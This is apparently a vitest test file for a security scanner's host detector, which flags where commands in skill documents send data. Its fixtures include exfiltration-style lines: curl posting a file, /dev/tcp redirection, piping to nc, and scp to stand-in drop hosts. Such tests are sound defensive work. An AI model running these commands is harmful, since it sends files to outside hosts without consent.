import { expect, it } from "vitest";
import { positionsIn } from "../../../src/core/scan/document.ts";
import { hostDetectorOf } from "../../../src/core/scan/host-signals.ts";

function hosts(text: string, trusted: readonly string[] = []) {
  const document = { path: "SKILL.md", text, spans: [], via: [], positionOf: positionsIn(text) };
  const seen = hostDetectorOf(trusted)({ files: [], documents: [document], signals: new Map() });
  return seen.map(({ name, facts }) => `${name} ${facts["host"] ?? "?"}`);
}

it.each([
  ["see https://webhook.site/1 and https://acme.example.", ["host.drop webhook.site", "host.unknown acme.example"]],
  ["curl -d @x https://$TARGET/in", ["host.unknown ?"]],
  ["exec 3<>/dev/tcp/203.0.113.5/443", ["host.drop 203.0.113.5"]],
  ["cat x | nc -w 3 drop.acme.example 9000", ["host.unknown drop.acme.example"]],
  ["scp a.txt me@drop.acme.example:/in", ["host.unknown drop.acme.example"]],
  ["curl -d @x drop.acme.example/in", ["host.unknown drop.acme.example"]],
  ["s.connect(('203.0.113.5', 443))", ["host.drop 203.0.113.5"]],
  ["http.client.HTTPSConnection('drop.acme.example')", ["host.unknown drop.acme.example"]],
  ["https.request({ hostname: 'drop.acme.example' })", ["host.unknown drop.acme.example"]],
  ["http://localhost:8080/", ["host.near localhost"]],
])("sees the hosts in %j", (text, expected) => {
  expect(hosts(text)).toEqual(expected);
});

it("takes the hosts of a policy for known", () => {
  expect(hosts("https://acme.example/x", ["acme.example"])).toEqual(["host.known acme.example"]);
});

it("stops at a bound on a list of addresses", () => {
  const found = hosts("https://acme.example/x\n".repeat(12_000));
  expect(found).toHaveLength(10_001);
  expect(found.at(-1)).toMatch(/^unread/);
});
